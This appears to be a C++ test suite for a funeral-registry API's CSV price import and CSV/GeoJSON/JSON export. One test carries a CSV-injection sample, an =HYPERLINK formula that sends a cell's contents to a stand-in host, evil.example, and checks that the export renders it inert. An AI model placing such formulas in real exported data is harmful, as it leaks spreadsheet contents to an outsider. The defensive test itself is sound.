// Price-list import (CSV in UTF-8 or GBK, all rows or none) and exports (CSV for Excel, GeoJSON, JSON),
// as an inspector with a spreadsheet and an auditor with a map see them.

#include "ApiSupport.h"

#include "codec/Csv.h"

#include <Poco/TextConverter.h>
#include <Poco/UTF8Encoding.h>
#include <Poco/Windows936Encoding.h>

#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <map>

using namespace registry::apitest;

namespace {

std::string gbk(const std::string& utf8) {
    Poco::UTF8Encoding from;
    Poco::Windows936Encoding to;
    Poco::TextConverter converter(from, to);
    std::string out;
    converter.convert(utf8, out);
    return out;
}

Response importCsv(const Client& client, const std::string& csv, const std::string& query = "") {
    return client.postRaw("/api/v1/import/prices" + query, csv, "text/csv");
}

} // namespace

BOOST_AUTO_TEST_SUITE(Transfer)

BOOST_AUTO_TEST_CASE(a_dry_run_checks_every_row_and_stores_nothing) {
    const auto facility = createFacility("insp", kOwn, "导入试运行殡仪馆");
    const std::string code = facility.str("code");
    const auto before = dbState();
    const std::string csv = "facility_code,item,amount_yuan,effective_from,displayed,bundled\n" + code +
                            ",basic.cremation,600.00,2025-01-01,是,否\n" + code + ",basic.transport,200,2025-01-01,true,false\n";
    auto r = importCsv(as("insp"), csv, "?dry_run=true");
    BOOST_TEST(r.status == 200, r.describe());
    BOOST_TEST(r.num("rows") == 2);
    BOOST_TEST(r.obj()->getValue<bool>("stored") == false);
    BOOST_TEST(dbState() == before);
}

BOOST_AUTO_TEST_CASE(an_import_stores_all_rows_and_supersedes_current_prices) {
    const auto facility = createFacility("insp", kOwn, "导入殡仪馆");
    const long long id = facility.id();
    auto first = as("insp").post("/api/v1/prices", priceBody(id, "basic.cremation", 55000, "2024-01-01"));
    BOOST_TEST(first.status == 201, first.describe());
    const std::string csv = "facility_id,item,amount_fen,effective_from,displayed,bundled,note\n" +
                            std::to_string(id) + ",basic.cremation,58000,2025-01-01,true,false,年度调价\n" +
                            std::to_string(id) + ",basic.cremation,59000,2025-07-01,true,false,\n";
    auto r = importCsv(as("insp"), csv);
    BOOST_TEST(r.status == 200, r.describe());
    BOOST_TEST(r.num("rows") == 2);
    BOOST_TEST(r.num("superseded") == 1);
    const auto history = as("insp").all("/api/v1/prices?facility_id=" + std::to_string(id) + "&item=basic.cremation");
    BOOST_REQUIRE(history.size() == 3u);
    BOOST_TEST(history[0]->getValue<std::string>("effective_to") == "2024-12-31");
    const auto current = as("insp").all("/api/v1/prices?current=true&facility_id=" + std::to_string(id));
    BOOST_REQUIRE(current.size() == 1u);
    BOOST_TEST(current[0]->getValue<long long>("amount_fen") == 59000);
}

// The rows of one facility and item may come in any order in the file: they are chained by date, the
// stored current price first, each record superseded by the next and ending the day before it.
BOOST_AUTO_TEST_CASE(rows_of_one_item_in_any_order_are_chained_by_date) {
    const auto facility = createFacility("insp", kOwn, "乱序导入殡仪馆");
    const std::string id = std::to_string(facility.id());
    auto first = as("insp").post("/api/v1/prices", priceBody(facility.id(), "basic.cremation", 55000, "2024-01-01"));
    BOOST_REQUIRE_MESSAGE(first.status == 201, first.describe());
    const std::string csv = "facility_id,item,amount_fen,effective_from,displayed,bundled,note\n" +
                            id + ",basic.cremation,59000,2025-07-01,true,false,\n" +
                            id + ",goods.urn,88000,2025-01-01,true,false,\n" +
                            id + ",basic.cremation,58000,2025-01-01,true,false,年度调价\n" +
                            id + ",basic.cremation,58500,2025-03-01,true,false,\n";
    auto r = importCsv(as("insp"), csv);
    BOOST_TEST_REQUIRE(r.status == 200, r.describe());
    BOOST_TEST(r.num("rows") == 4);
    BOOST_TEST(r.num("superseded") == 1);
    auto history = as("insp").all("/api/v1/prices?facility_id=" + id + "&item=basic.cremation");
    BOOST_REQUIRE(history.size() == 4u);
    std::sort(history.begin(), history.end(), [](const auto& a, const auto& b) {
        return a->template getValue<std::string>("effective_from") < b->template getValue<std::string>("effective_from");
    });
    const std::vector<std::string> to{"2024-12-31", "2025-02-28", "2025-06-30"};
    for (std::size_t i = 0; i < 3; ++i) {
        BOOST_TEST(history[i]->getValue<std::string>("effective_to") == to[i]);
        BOOST_TEST(history[i]->getValue<long long>("superseded_by") == history[i + 1]->getValue<long long>("id"));
    }
    BOOST_TEST(history[3]->isNull("superseded_by"));
    BOOST_TEST(history[3]->getValue<long long>("amount_fen") == 59000);
    const auto current = as("insp").all("/api/v1/prices?current=true&facility_id=" + id);
    BOOST_TEST(current.size() == 2u); // cremation and the urn
}

BOOST_AUTO_TEST_CASE(a_gbk_file_from_excel_is_read_as_chinese) {
    const auto facility = createFacility("insp", kOwn, "编码测试殡仪馆");
    const std::string csv = "facility_code,item,amount_yuan,effective_from,displayed,bundled,note\r\n" +
                            facility.str("code") + ",goods.urn,880,2025-02-01,是,否,骨灰盒价格\r\n";
    auto r = importCsv(as("insp"), gbk(csv));
    BOOST_TEST(r.status == 200, r.describe());
    const auto stored = as("insp").all("/api/v1/prices?item=goods.urn&facility_id=" + std::to_string(facility.id()));
    BOOST_REQUIRE(stored.size() == 1u);
    BOOST_TEST(stored[0]->getValue<std::string>("note") == "骨灰盒价格");
    BOOST_TEST(stored[0]->getValue<long long>("amount_fen") == 88000);
}

BOOST_AUTO_TEST_CASE(bad_rows_are_all_listed_and_nothing_is_stored) {
    const auto mine = createFacility("insp", kOwn, "坏行测试殡仪馆");
    const auto theirs = createFacility("admin", kOther, "他区殡仪馆");
    const auto before = dbState();
    const std::string csv = "facility_id,item,amount_fen,effective_from,displayed,bundled\n" +
                            std::to_string(mine.id()) + ",basic.cremation,60000,2025-01-01,true,false\n" +
                            std::to_string(mine.id()) + ",basic.cremation,-5,2025-02-01,true,false\n" +
                            std::to_string(mine.id()) + ",basic.storage,3000,2025-13-01,maybe,false\n" +
                            std::to_string(theirs.id()) + ",basic.cremation,60000,2025-01-01,true,false\n" +
                            "999999,basic.cremation,60000,2025-01-01,true,false\n";
    auto r = importCsv(as("insp"), csv);
    BOOST_TEST(r.status == 422, r.describe());
    BOOST_TEST(r.isProblem());
    std::set<std::pair<long long, std::string>> seen;
    for (const auto& e : *r.obj()->getArray("errors")) {
        const auto o = e.extract<Poco::JSON::Object::Ptr>();
        seen.insert({o->getValue<long long>("line"), o->getValue<std::string>("field")});
        BOOST_TEST(!o->getValue<std::string>("message").empty());
    }
    BOOST_TEST(seen.count({3, "amount_fen"}) == 1u);
    BOOST_TEST(seen.count({4, "effective_from"}) == 1u);
    BOOST_TEST(seen.count({4, "displayed"}) == 1u);
    BOOST_TEST(seen.count({5, "facility_id"}) == 1u); // another district's facility
    BOOST_TEST(seen.count({6, "facility_id"}) == 1u); // no such facility
    BOOST_TEST(seen.count({2, "amount_fen"}) == 0u);  // the good row is not blamed
    BOOST_TEST(dbState() == before);
}

BOOST_AUTO_TEST_CASE(import_refuses_other_media_types_missing_columns_and_readers) {
    auto json = as("insp").postRaw("/api/v1/import/prices", "{}", "application/json");
    BOOST_TEST(json.status == 415, json.describe());
    auto columns = importCsv(as("insp"), "item,amount_fen\nbasic.cremation,1\n");
    BOOST_TEST(columns.status == 422, columns.describe());
    BOOST_TEST(columns.body.find("facility_id") != std::string::npos);
    auto auditor = importCsv(as("aud"), "facility_id,item,amount_fen,effective_from,displayed,bundled\n");
    BOOST_TEST(auditor.status == 403, auditor.describe());
    auto encoding = importCsv(as("insp"), "x", "?encoding=latin1");
    BOOST_TEST(encoding.status == 400, encoding.describe());
}

BOOST_AUTO_TEST_CASE(csv_export_opens_in_excel_and_keeps_the_district_scope) {
    createFacility("insp", kOwn, "导出,带逗号\"和引号\"的殡仪馆");
    auto r = as("insp").get("/api/v1/export/facilities?format=csv");
    BOOST_TEST(r.status == 200, r.describe());
    BOOST_TEST(r.contentType.rfind("text/csv", 0) == 0u);
    BOOST_TEST(r.body.rfind("\xEF\xBB\xBF" "id,code,name,kind,district", 0) == 0u, r.body.substr(0, 80));
    BOOST_TEST(r.body.find("\"导出,带逗号\"\"和引号\"\"的殡仪馆\"") != std::string::npos);
    BOOST_TEST(r.body.find(std::string(",") + kOther + ",") == std::string::npos); // no Chaoyang rows
    auto other = as("insp").get(std::string("/api/v1/export/facilities?district=") + kOther);
    BOOST_TEST(other.status == 403, other.describe());
}

BOOST_AUTO_TEST_CASE(csv_export_shows_a_formula_in_a_name_as_text_for_excel) {
    // OWASP's CSV injection: Excel runs a cell starting with = + - @ as a formula.
    const std::string name = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
    const auto created = createFacility("insp", kOwn, name);
    const auto plusName = createFacility("insp", kOwn, "+1-2 殡仪馆");
    auto r = as("insp").get("/api/v1/export/facilities?format=csv");
    BOOST_TEST(r.status == 200, r.describe());
    // The cell is written quoted, with a leading ' that Excel shows as text instead of running it.
    BOOST_TEST(r.body.find(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"详情\"\")\",") != std::string::npos,
               r.body.substr(0, 400));
    BOOST_TEST(r.body.find(",=HYPERLINK") == std::string::npos);
    const auto rows = registry::codec::parseCsv(r.body.substr(3)); // after the BOM
    BOOST_TEST_REQUIRE(rows.size() >= 3u);
    const auto& header = rows[0].cells;
    const auto column = [&](const std::string& key) {
        return static_cast<std::size_t>(std::find(header.begin(), header.end(), key) - header.begin());
    };
    std::map<long long, std::vector<std::string>> byId;
    for (std::size_t i = 1; i < rows.size(); ++i) byId[std::stoll(rows[i].cells.at(column("id")))] = rows[i].cells;
    BOOST_TEST(byId.at(created.id()).at(column("name")) == "'" + name);
    BOOST_TEST(byId.at(plusName.id()).at(column("name")) == "'+1-2 殡仪馆");
    // Numbers stay numbers, and a name without a formula is as typed.
    BOOST_TEST(byId.at(created.id()).at(column("capacity_total")) == "1000");
    // The API's JSON is the record as stored: neutralising is for the spreadsheet only.
    BOOST_TEST(as("insp").get(pathOf("facilities", created.id())).str("name") == name);
}

BOOST_AUTO_TEST_CASE(geojson_and_json_exports_are_well_formed) {
    auto site = as("insp").post("/api/v1/burial-sites", with(burialSiteBody(kOwn), {{"lat", 39.99}, {"lon", 116.31}}));
    BOOST_TEST(site.status == 201, site.describe());
    auto geo = as("insp").get("/api/v1/export/burial-sites?format=geojson");
    BOOST_TEST(geo.status == 200, geo.describe());
    const auto collection = geo.obj();
    BOOST_TEST(collection->getValue<std::string>("type") == "FeatureCollection");
    bool found = false;
    for (const auto& f : *collection->getArray("features")) {
        const auto feature = f.extract<Poco::JSON::Object::Ptr>();
        if (feature->getObject("properties")->getValue<long long>("id") != site.id()) continue;
        found = true;
        const auto coordinates = feature->getObject("geometry")->getArray("coordinates");
        BOOST_TEST(coordinates->getElement<double>(0) == 116.31); // RFC 7946: longitude first
        BOOST_TEST(coordinates->getElement<double>(1) == 39.99);
    }
    BOOST_TEST(found);
    auto json = as("aud").get("/api/v1/export/prices?format=json");
    BOOST_TEST(json.status == 200, json.describe());
    BOOST_TEST((json.json.type() == typeid(Poco::JSON::Array::Ptr)));
    auto pricesGeo = as("aud").get("/api/v1/export/prices?format=geojson");
    BOOST_TEST(pricesGeo.status == 400, pricesGeo.describe());
    auto unknown = as("aud").get("/api/v1/export/nothing");
    BOOST_TEST(unknown.status == 404, unknown.describe());
}

BOOST_AUTO_TEST_SUITE_END()
